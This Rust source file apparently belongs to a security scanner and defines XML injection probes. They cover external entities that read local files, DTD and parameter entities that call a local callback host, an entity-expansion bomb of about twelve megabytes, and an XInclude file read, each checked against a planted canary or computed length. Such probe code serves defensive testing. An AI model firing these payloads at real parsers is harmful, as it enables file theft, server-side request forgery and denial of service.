//! Documents whose entities lead to files, to addresses, or to more than memory holds.

use super::nonce::visited;
use super::{Form, Nonce};
use crate::evidence::Profile::{Deep, Quick, Standard};
use crate::proof::Oracle;

macro_rules! eleven {
    ($name:literal, $of:literal) => {
        concat!(
            "<!ENTITY ",
            $name,
            " \"",
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            $of,
            "\">"
        )
    };
}

/// The first goes to every text, the others where XML is meant.
pub(crate) const FORMS: &[Form] = &[
    Form::new("file", Quick, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"file://«O»\">]>«D»", outside),
    // Some parsers may open nothing but what lies beside the document.
    Form::new(
        "file of the workspace",
        Standard,
        "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"file://«i»\">]>«D»",
        inside,
    ),
    Form::new(
        "address",
        Standard,
        "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\">]>«D»",
        visited,
    ),
    Form::new(
        "declared address",
        Standard,
        "<!DOCTYPE «d» SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"><«d»>a</«d»>",
        visited,
    ),
    Form::new(
        "parameter",
        Standard,
        "<!DOCTYPE «d» [<!ENTITY % e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"> %e;]><«d»>a</«d»>",
        visited,
    ),
    Form::new(
        "expansion",
        Standard,
        concat!(
            "<!DOCTYPE «d» [<!ENTITY a \"«L»\">",
            eleven!("b", "&a;"),
            eleven!("c", "&b;"),
            eleven!("f", "&c;"),
            eleven!("g", "&f;"),
            eleven!("h", "&g;"),
            eleven!("e", "&h;"),
            "]>«D»"
        ),
        expanded,
    ),
    Form::new("path", Deep, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"«O»\">]>«D»", outside),
    Form::new(
        "inclusion",
        Deep,
        "<«d» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://«O»\"/></«d»>",
        outside,
    ),
];

fn outside(_: &Nonce<'_>) -> Option<Oracle> {
    Some(Oracle::Planted { canary: "outside-file".to_owned() })
}

fn inside(_: &Nonce<'_>) -> Option<Oracle> {
    Some(Oracle::Planted { canary: "inside-file".to_owned() })
}

/// Twelve megabytes: more than a careful parser makes of a small document, and no harm.
fn expanded(n: &Nonce<'_>) -> Option<Oracle> {
    let length = n.left.len() * 11_usize.pow(6);
    let of = [length.to_string(), n.left.repeat(2_000)].map(Oracle::computed);
    Some(Oracle::Any { of: of.into() })
}
